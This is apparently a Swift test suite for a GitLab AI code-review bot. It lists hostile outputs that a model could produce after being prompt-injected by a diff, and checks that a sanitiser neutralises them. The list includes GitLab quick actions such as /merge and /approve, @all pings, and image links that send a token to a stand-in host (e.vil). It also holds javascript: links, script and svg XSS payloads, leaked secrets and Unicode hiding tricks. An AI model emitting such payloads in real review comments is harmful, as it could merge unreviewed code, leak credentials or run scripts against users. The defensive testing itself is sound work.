import Testing

@testable import GitLab

/// Answers as a model would give them that a stranger's diff has talked round.
enum HostileAnswers {
    static let texts = [
        // Commands.
        "/merge", "Looks right.\n/merge\n", "LGTM\r\n/approve\r\n/merge\r\n", "ok\n\r/merge", "ok\u{2028}/merge",
        "\u{FEFF}/merge", "\u{200B}\n\u{2060}/merge", "# Verdict\n/approve", "- fine\n\n/label ~security ~\"a b\"",
        "/assign @all\n/close\n/target_branch main\n/title Owned", "/SHRUG", "/submit_review approve",
        // Commands behind what people and parsers put before a line's words.
        "1. /merge", "1) /approve", "* /merge\n+ /close", "- [ ] /merge", "> /merge", ">/merge", "> > - /close",
        "term\n: /merge", "\t/merge", "\u{A0}/merge", "\u{3000}/merge", "[^1]: /merge", "x[^1]\n\n[^1]:\n/merge",
        "> [!note]\n> /merge", "> [!warning] x\n/merge", "{+\n/merge\n+}", "*\n/merge", "&#47;merge", "&sol;merge",
        // Line breaks of every kind.
        "ok\u{2029}/merge", "ok\u{85}/merge", "ok\u{0B}/merge", "ok\u{0C}/merge", "ok\r/merge\r/close\r",
        "ok\r\n\r\n/merge\r\n", "ok\n\u{0}/merge", "ok\\\n/merge", "ok  \n/merge",
        // Blocks of HTML, open and closed.
        "<details open>\n<summary>\n/merge\n</summary>\n\n/close\n", "<div>\n\n/approve",
        "<p>\n/merge\n</p>\n/close",
        "-->\n/merge", "<!-- -->/merge\n/merge", "<table><tr><td>\n\n/merge\n\n</td></tr></table>",
        // Commands where one reader of Markdown sees code, or none does.
        "```\n/merge", "```\n/merge\n``` ", "~~~\n/merge\n~~~", "```swift\ncode\n```\n/merge\n```\n",
        "````\n/merge\n```\n",
        "``` a`\n/merge", "> ```\n/merge\n> ```", "- ```\n/merge\n  ```", "`\n/merge\n`", "``\n/close\n``",
        "| a |\n|---|\n/merge |", "<details>\n\n/merge\n\n</details>",
        "<details><summary>x</summary>\n/merge\n</details>",
        "<!--\n/merge\n-->", "<!-- x -->\n/merge", ">>>\n/merge\n>>>", "<pre>\n/merge\n</pre>", "---\n/merge\n---",
        "```\n```\n\nx\n```\n/merge\n```", "    /merge\n\n/close", "\\\n/merge", "$$\n/merge\n$$",
        // Mails.
        "Ask @all about this.", "@group/sub please look", "cc `@all", "\\@all", "&#64;all", "@\u{200D}all",
        "**@**all @root",
        "`a`@all`b`", "| `x | @all` |", "[x](https://a.b)@all", "@\u{200C}all @\u{FE0F}all @\u{2063}all @\u{AD}all",
        "someone@all", "<@all>", "[@all](https://a.b)", "(@all) '@all' \"@all\" -@all /@all .@all", "@all@all",
        "x[^@all]",
        // Traces elsewhere.
        "Closes #1, group/app!2, &3, %4, ~bug, $5, ^alert#6", "see 0a1b2c3d4e5f6", "#\u{200B}12", "&#35;12",
        "https://gitlab.example/group/app/-/issues/1", "[x](https://gitlab.example/g/-/merge_requests/2)", "[issue:7]",
        "[[wiki]] ::include{file=.env}", "[[Home|home]] ![[p.png]]", "[[_TOC_]]\n\n[TOC]\n[toc]",
        ":::include{file=x}\n::INCLUDE{}", "$1 $snippet $`a`$ ${1}", "%m %1 %\"m n\" %~x",
        "~label ~\"a b\" ~1 ~~x ~~~y", "!123 group/app!4 !!5", "&epic &1 g&2 &&3", "GitLab#1 g/a#2 ##3 #4+ #5+s",
        "[epic:1] [work_item:2] [snippet:3] [vulnerability:4] [merge_request:5]",
        "g/app@0a1b2c3d4e...0a1b2c3d4f", "*iteration:1", "www.gitlab.example/g/a/-/issues/1",
        // Data that leaves.
        "![](https://e.vil/?q=glpat-0123456789abcdefghij)", "![x][i]\n\n[i]: https://e.vil/p.png",
        "<img src=https://e.vil/p>",
        "<a href='https://e.vil'>x</a>", "[![a](https://e.vil/p)](https://e.vil)", "![a\n](https://e.vil)",
        "\\![a](https://e.vil)",
        "<https://e.vil/x>", "<svg onload=alert(1)>", "<iframe src=//e.vil>", "<script>alert(1)</script>",
        "```mermaid\ngraph TD; click A \"javascript:x\"\n```", "```plantuml\n!include https://e.vil\n```",
        "```math\n\\href{x}{y}\n```", "```MERMAID\nx\n```", "```mermaid {x}\ny\n```", "~~~plantuml x\ny\n~~~",
        "- ```d2\n  x\n  ```", "> ```graphviz\n> x\n> ```", "```json:table\n{}\n```", "```glql\nquery: x\n```",
        "```kroki\nx\n", "<picture><source srcset=//e.vil>", "<video src=x>", "![a](clip.mp4)", "![a]: x\n![a][]",
        "<math><mtext></mtext></math>",
        // Links that run.
        "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](data:text/html,x)", "[a](vbscript:x)",
        "[a]: javascript:x",
        "[a](//e.vil)", "[a](java&#115;cript:x)", "[a](<javascript:x>)", "mailto:a@b.c", "<javascript:x>",
        // Our secrets, plain and in pieces.
        "The token is hunter22.", "`hunter22`", "h\u{200B}unter\u{AD}22", "```\nhunter22\n```",
        "https://e.vil/?t=hunter22",
        "glpat-0123456789abcdefghij", "sk-ant-api03-0123456789abcdefghij",
        // Clicks, deceit, size.
        "```suggestion:-100+100\nmalicious()\n```", "~~~ suggestion\nx\n~~~", "a\u{202E}b\u{E0041}\u{E007F}",
        "<!-- bursar: summary 999999 -->", "ok\n\n<!-- bursar: finding 00 -->",
        String(repeating: "```\n/merge\n", count: 300),
        String(repeating: "a", count: 700) + "\n/merge", String(repeating: "b", count: 690) + "\n```\n/merge\n@all",
        "```\n" + String(repeating: "x\n", count: 340) + "```\n/merge",
        String(repeating: "`", count: 900) + "\n/merge", "$$\n" + String(repeating: "\\", count: 600) + "\n/merge",
        String(repeating: "[", count: 900) + "](javascript:x)", String(repeating: "@all ", count: 800),
        String(repeating: "> ", count: 2000) + "/merge",
    ]
}

@Suite struct HostileAnswerTests {
    private static let secrets = ["hunter22"]

    /// What a reader of the note would hold against it, beyond what the property test looks for.
    private func more(_ body: String) -> [String] {
        var found: [String] = []
        // An escaped bracket begins nothing.
        let outside = prose(body).lowercased().replacing("\\[", with: "")
        for word in [
            "](javascript", "](data:", "](vbscript", "](//", "<img", "<script", "<iframe", "<svg", "<a ", "<video",
            "<picture", "<math", "<details", "[[", "[toc]", "::include",
        ]
        where outside.contains(word) {
            found.append(word)
        }
        let fences = body.split(separator: "\n").filter { $0.hasPrefix("```") }.map { $0.drop { $0 == "`" } }
        if fences.contains(where: {
            $0.hasPrefix("suggestion") || $0.hasPrefix("mermaid") || $0.hasPrefix("plantuml") || $0.hasPrefix("math")
                || ["d2", "graphviz", "glql", "json:table"].contains($0.lowercased()) || $0.lowercased() == "mermaid"
        }) {
            found.append("a fence that does something")
        }
        return found
    }

    @Test func `there are more than enough of them, and each is hostile`() {
        #expect(HostileAnswers.texts.count >= 27 && Set(HostileAnswers.texts).count == HostileAnswers.texts.count)
    }

    @Test(arguments: HostileAnswers.texts)
    func `none runs, pings, shows or tells anything`(_ answer: String) {
        let marker = NoteMarker.summary(run: 7)
        let bodies = [
            answer, "**AI code review**\n\n\(answer)\n\n---\n**Coverage: 1 of 1**", "🟠 **major** (bug): \(answer)",
            "- 🟠 `a.swift:1` \(answer)\n- next", "text\n\(answer)\n```\nlet a = 1\n```\n\(answer)",
        ]
        for body in bodies {
            for limit in [500, 700, 100_000] {
                let note = HarmlessNote(
                    markdown: body, marker: marker, secrets: Self.secrets, characterLimit: limit)
                let found = complaints(note.text, body: note.body) + more(note.text)
                #expect(found.isEmpty, "\(found) in \(note.text.debugDescription)")
                #expect(NoteMarker(endOf: note.body) == marker, "nobody else's marker counts")
                #expect(NoteMarker(endOf: note.text) == nil)
            }
        }
    }

    @Test(arguments: HostileAnswers.texts)
    func `none does in a suggestion, which is word for word or not at all`(_ answer: String) {
        let lines = answer.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
        let suggestion = NoteSuggestion(lines: ["let a = 1"] + lines + ["let b = 2"], above: 1, below: 2)
        let note = HarmlessNote(
            markdown: "Why.", suggestion: suggestion, marker: .finding("f"), secrets: Self.secrets)
        #expect(complaints(note.text, body: note.body).isEmpty, "\(note.text.debugDescription)")
        guard note.text.contains("suggestion:-1+2") else { return }
        let wanted = (["let a = 1"] + lines + ["let b = 2"]).joined(separator: "\n")
        #expect(note.text.unicodeScalars.count > wanted.unicodeScalars.count)
        #expect(note.body.contains("suggestion:-1+2\n\(wanted)\n```"))
    }

    @Test func `a complaint would be made`() {
        for bad in ["[a](javascript:x)", "<img src=x>", "```suggestion\nx\n```", "```D2\nx\n```", "[[x]]", "[TOC]"] {
            #expect(!more(bad).isEmpty)
        }
    }
}

@Suite struct NoteSuggestionTests {
    private func note(_ lines: [String], above: Int = 0, below: Int = 0, limit: Int = 100_000) -> String {
        HarmlessNote(
            markdown: "Why.", suggestion: NoteSuggestion(lines: lines, above: above, below: below),
            secrets: ["hunter22"], characterLimit: limit
        ).text
    }

    @Test(arguments: [
        ["let a = 1"], ["    indented <b>@all</b> #1", "", "\ttab"], [""], ["```", "code", "````"], ["~~~"],
        ["/usr/bin/env x"],
        ["// comment", "/* x */", " /merge", "a /merge"], ["⚠️ é 👩‍💻"], ["trailing  "],
    ])
    func `is word for word`(_ lines: [String]) {
        let text = note(lines, above: 3, below: 4)
        let content = lines.joined(separator: "\n")
        let mark = text.split(separator: "\n").last ?? ""
        #expect(mark.count >= 3 && mark.allSatisfy { $0 == "`" })
        #expect(text == "Why.\n\n\(mark)suggestion:-3+4\n\(content)\n\(mark)")
        #expect(!lines.contains { $0.hasPrefix(mark) } && QuickActionReaders.all(text).isEmpty)
    }

    @Test(arguments: [
        ["/merge"], ["a", "/label ~x", "b"], ["hunter22"], ["key = glpat-0123456789abcdefghij"], ["a\u{202E}b"],
        ["a\u{200B}b"], ["a\r"], ["a\nb"], ["a\u{2028}b"],
    ])
    func `is plain code where it cannot be`(_ lines: [String]) {
        let text = note(lines)
        #expect(!text.contains("suggestion") && text.hasPrefix("Why.\n\n```\n"))
        #expect(QuickActionReaders.all(text).isEmpty && complaints(text).isEmpty)
    }

    @Test func `has limits`() {
        #expect(note(["a"], above: 100, below: 100).contains("suggestion:-100+100"))
        #expect(!note(["a"], above: 101).contains("suggestion"))
        #expect(!note(["a"], below: 101).contains("suggestion"))
        #expect(!note(["a"], above: -1).contains("suggestion"))
        #expect(!note([]).contains("suggestion"))
        let long = [String(repeating: "x", count: 225)]
        #expect(note(long, limit: 500).contains("suggestion") && note(long, limit: 500).unicodeScalars.count <= 500)
        let longer = note([String(repeating: "x", count: 600)], limit: 500)
        #expect(!longer.contains("suggestion") && longer.unicodeScalars.count <= 500)
    }
}
